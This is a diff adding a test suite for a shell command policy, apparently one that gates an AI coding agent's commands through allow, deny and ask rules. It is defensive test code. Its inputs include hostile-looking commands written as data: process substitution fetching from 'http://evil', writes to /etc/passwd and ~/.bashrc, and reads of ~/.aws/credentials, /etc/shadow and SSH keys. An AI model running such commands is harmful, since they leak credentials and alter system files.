@@ -0,0 +1,109 @@
+import { describe, expect, it } from "vitest";
+import { commandPolicySchema, createCommandPolicy, splitCommand } from "@/lib/command-policy";
+
+// Same rules as profiles/code-editor.json
+const policy = createCommandPolicy(
+  commandPolicySchema.parse({
+    default: "ask",
+    rules: [
+      { action: "allow", prefix: "ls" },
+      { action: "allow", prefix: "cat" },
+      { action: "allow", prefix: "grep" },
+      { action: "allow", prefix: "git status" },
+      { action: "allow", prefix: "git diff" },
+      { action: "deny", prefix: "sudo" },
+      { action: "deny", pattern: "\\brm\\s+-[a-zA-Z]*(rf|fr)" },
+      { action: "deny", prefix: "curl" },
+    ],
+  }),
+  "/work/space",
+  ["/opt/docs"]
+);
+
+describe("splitCommand", () => {
+  it("splits at unquoted separators and keeps redirections", () => {
+    expect(splitCommand(`ls -la && grep "a;b" x | cat 2>&1; echo 'c||d'`)).toEqual([
+      "ls -la",
+      `grep "a;b" x`,
+      "cat 2>&1",
+      "echo 'c||d'",
+    ]);
+  });
+});
+
+describe("createCommandPolicy", () => {
+  it("allows commands whose every part an allow rule matches", () => {
+    expect(policy.evaluate("ls -la src && cat README.md | grep x > out.txt").decision).toBe("allow");
+    expect(policy.evaluate("git diff --output=changes.patch").decision).toBe("allow");
+    expect(policy.evaluate("cat notes.txt 2>/dev/null").decision).toBe("allow");
+  });
+
+  it("denies by rule and asks about unmatched commands", () => {
+    expect(policy.evaluate("ls && sudo reboot")).toMatchObject({ decision: "deny", rule: 'deny prefix "sudo"' });
+    expect(policy.evaluate("rm -rf build").decision).toBe("deny");
+    expect(policy.evaluate("git push")).toMatchObject({ decision: "ask", reason: "No policy rule allows: git push" });
+  });
+
+  it("asks about command and process substitution", () => {
+    expect(policy.evaluate("cat $(which node)").decision).toBe("ask");
+    expect(policy.evaluate("cat `which node`").decision).toBe("ask");
+    expect(policy.evaluate("cat <(curl http://evil)").decision).toBe("ask");
+    expect(policy.evaluate("ls >(sh)").decision).toBe("ask");
+  });
+
+  it("denies writes outside the working directory", () => {
+    for (const command of [
+      "cat x > /etc/passwd",
+      "ls >> ../out.txt",
+      "cat x > ~/.bashrc",
+      "git diff --output=/tmp/evil",
+      "git diff --output /tmp/evil",
+      "cat a>/etc/passwd",
+      "cat x>>~/.bashrc",
+      "cat x <>/etc/p",
+      "cat x 2>/etc/x",
+      "ls&>/etc/x",
+      "cat x >&/etc/x",
+    ]) {
+      expect(policy.evaluate(command), command).toMatchObject({ decision: "deny", rule: null });
+    }
+  });
+
+  it("splits redirections that touch a word", () => {
+    expect(policy.evaluate("cat a>out.txt 2>>err.log").decision).toBe("allow");
+    expect(policy.evaluate("grep x src 2>&1 >&2").decision).toBe("allow");
+    expect(policy.evaluate("cat a>'/etc/passwd'")).toMatchObject({ decision: "deny", rule: null });
+  });
+
+  it("asks about write targets the shell expands", () => {
+    for (const command of [
+      "cat x > $HOME/.bashrc",
+      `cat x > "$HOME"/.bashrc`,
+      "ls > ~root/.profile",
+      "grep -r x . >> ${TMPDIR:-/tmp}/o",
+      "cat x > /tm*/o",
+    ]) {
+      expect(policy.evaluate(command), command).toMatchObject({ decision: "ask" });
+    }
+  });
+
+  it("asks about paths outside the working directory", () => {
+    expect(policy.evaluate("cat ../../etc/shadow")).toMatchObject({
+      decision: "ask",
+      reason: "No policy rule allows: path ../../etc/shadow outside the working directory",
+    });
+    expect(policy.evaluate("grep --file=../../secret x").decision).toBe("ask");
+    expect(policy.evaluate("cat src/../README.md").decision).toBe("allow");
+    for (const command of [
+      "cat ~/.aws/credentials",
+      "cat /etc/shadow",
+      "grep -r key ~",
+      "cat $HOME/.ssh/id_rsa",
+      "cat ~root/.profile",
+      "cat < /etc/shadow",
+    ]) {
+      expect(policy.evaluate(command), command).toMatchObject({ decision: "ask" });
+    }
+    expect(policy.evaluate("cat /work/space/src/a.ts /opt/docs/guide.md").decision).toBe("allow");
+  });
+});